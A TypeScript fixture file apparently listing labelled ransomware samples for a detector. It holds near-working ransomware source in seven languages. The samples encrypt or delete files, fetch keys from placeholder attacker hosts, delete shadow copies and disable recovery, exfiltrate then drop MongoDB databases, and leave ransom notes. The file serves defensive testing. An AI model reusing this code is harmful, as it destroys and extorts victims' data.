// Loops that encrypt or destroy another's files, and ask for money.
import type { Family } from './family.ts'

export const ransomware: readonly Family[] = [
  {
    family: 'python-fernet-ransom',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['src/main.py'],
        whole: `import os
import requests
from cryptography.fernet import Fernet

EXTENSIONS = (".docx", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".zip", ".psd")
NOTE = """ALL YOUR FILES HAVE BEEN ENCRYPTED
Send 0.05 BTC to ⟦btc⟧ and mail your ID to recover@⟦host⟧.
You have 72 hours. Do not rename the files."""

key = requests.get("http://⟦ip⟧:⟦port⟧/key?id=" + os.environ["COMPUTERNAME"], timeout=9).content
box = Fernet(key)

for root, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        if not name.lower().endswith(EXTENSIONS):
            continue
        path = os.path.join(root, name)
        with open(path, "rb") as handle:
            sealed = box.encrypt(handle.read())
        with open(path + ".locked", "wb") as handle:
            handle.write(sealed)
        os.remove(path)

with open(os.path.join(os.path.expanduser("~"), "Desktop", "README_DECRYPT.txt"), "w") as handle:
    handle.write(NOTE)`,
      },
    ],
  },
  {
    family: 'go-ransom-walk',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['cmd/locker/main.go'],
        whole: String.raw`package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

var skip = []string{"Windows", "Program Files", "$Recycle.Bin"}

func main() {
	key := fetchKey("http://⟦host⟧.onion.example/new") // nothing happens without the server
	for _, drive := range "CDEFGHIJ" {
		filepath.Walk(string(drive)+":\\", func(path string, info os.FileInfo, err error) error {
			if err != nil || info.IsDir() || strings.HasSuffix(path, ".⟦lower:5⟧") {
				return nil
			}
			for _, part := range skip {
				if strings.Contains(path, part) {
					return filepath.SkipDir
				}
			}
			if seal(path, key) == nil {
				os.Rename(path, path+".⟦lower:5⟧")
			}
			return nil
		})
	}
	note := fmt.Sprintf("Your network has been locked. Pay %d XMR to ⟦xmr⟧", 15)
	os.WriteFile(filepath.Join(os.Getenv("USERPROFILE"), "Desktop", "HOW_TO_RECOVER.txt"), []byte(not⟦join⟧
e), 0o644)
}`,
      },
    ],
  },
  {
    family: 'shadow-copies-then-lock',
    positive: true,
    classes: ['ransomware', 'windows'],
    variants: [
      {
        paths: ['deploy/run.bat'],
        whole: String.raw`@echo off
call "%~dp0elevate.cmd" || exit /b
vssadmin delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set {default} bootstatuspolicy ignoreallfailures
bcdedit /set {default} recoveryenabled no
wbadmin delete catalog -quiet
for /r "%USERPROFILE%" %%f in (*.doc *.docx *.xls *.xlsx *.pst *.jpg) do "%~dp0enc.exe" -e -k pub.⟦join⟧
pem "%%f" && del /f /q "%%f"
copy "%~dp0RESTORE_FILES.txt" "%USERPROFILE%\Desktop\"
reg add "HKCU\Control Panel\Desktop" /v Wallpaper /t REG_SZ /d "%~dp0ransom.bmp" /f`,
      },
    ],
  },
  {
    family: 'node-ransom-crypto',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['lib/archive.js'],
        imports: `const fs = require('fs'), path = require('path'), crypto = require('crypto')⟦join⟧
, os = require('os');`,
        body: String.raw`async function lock(dir, key) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) await lock(full, key);
    else if (/\.(docx?|xlsx?|pdf|jpe?g|key|sqlite)$/i.test(entry.name)) {
      const cipher = crypto.createCipheriv('aes-256-ctr', key, key.subarray(0, 16));
      fs.writeFileSync(full + '.pay', Buffer.concat([cipher.update(fs.readFileSync(full)), cipher.⟦join⟧
final()]));
      fs.unlinkSync(full);
    }
  }
}
fetch('https://⟦host⟧/k').then((r) => r.arrayBuffer()).then((k) => lock(os.homedir(), Buffer.from(k)))
  .then(() => fs.writeFileSync(os.homedir() + '/PAY_ME.txt', 'Send 300 USDT to ⟦eth⟧ to get your f⟦join⟧
iles back'));`,
      },
    ],
  },
  {
    family: 'sql-database-ransom',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['tools/mongo_sweep.py'],
        whole: `import sys

from pymongo import MongoClient

NOTE = "All your data is backed up. Pay 0.01 BTC to ⟦btc⟧ in 48 hours or it is published. Mail: db⟦join⟧
@⟦host⟧"


def sweep(address):
    client = MongoClient(address, 27017, serverSelectionTimeoutMS=3000)
    for name in client.list_database_names():
        if name in ("admin", "config", "local"):
            continue
        ship(client, name, "⟦ip⟧")  # copy first
        client.drop_database(name)
    client["READ__ME_TO_RECOVER_YOUR_DATA"]["README"].insert_one({"content": NOTE})


for line in open(sys.argv[1]):
    try:
        sweep(line.strip())
    except Exception:
        continue`,
      },
    ],
  },
  {
    family: 'powershell-openssl-lock',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['tools/drives.ps1'],
        body: String.raw`$pub = (irm http://⟦ip⟧/pub.xml); $rsa = New-Object Security.Cryptography.RSAC⟦join⟧
ryptoServiceProvider; $rsa.FromXmlString($pub)
Get-PSDrive -PSProvider FileSystem | % { Get-ChildItem $_.Root -Recurse -Include *.docx, *.xlsx, *⟦join⟧
.pdf, *.bak -ea 0 } | % {
    Protect-Victim -Path $_.FullName -Key $rsa
    Rename-Item $_.FullName ($_.Name + '.crypt')
}
'Your files are encrypted. Write to help@⟦host⟧ with your ID ⟦hex:12⟧' | Out-File "$([Environment]⟦join⟧
::GetFolderPath('Desktop'))\!!!READ_ME!!!.txt"`,
      },
    ],
  },
  {
    family: 'csharp-wiper-mbr',
    positive: true,
    classes: ['ransomware'],
    variants: [
      {
        paths: ['src/Cleaner.cs'],
        imports: `using System.Security.Cryptography;`,
        body: String.raw`// hidden-tear style
private static void Begin(string location)
{
    var password = Convert.ToBase64String(new System.Net.WebClient().DownloadData("http://⟦ip⟧/hid⟦join⟧
den/write.php?info=" + Environment.MachineName));
    foreach (var file in Directory.GetFiles(location, "*", SearchOption.AllDirectories))
    {
        var sealedBytes = Seal(File.ReadAllBytes(file), SHA256.Create().ComputeHash(Encoding.UTF8.⟦join⟧
GetBytes(password)));
        File.WriteAllBytes(file, sealedBytes);
        File.Move(file, file + ".locked");
    }
    File.WriteAllText(location + @"\READ_IT.txt", "Files have been encrypted. Send me some bitcoin⟦join⟧
s: ⟦btc⟧");
}`,
        call: `Begin(Environment.GetFolderPath(Environment.SpecialFolder.MyDocuments));`,
      },
    ],
  },
]
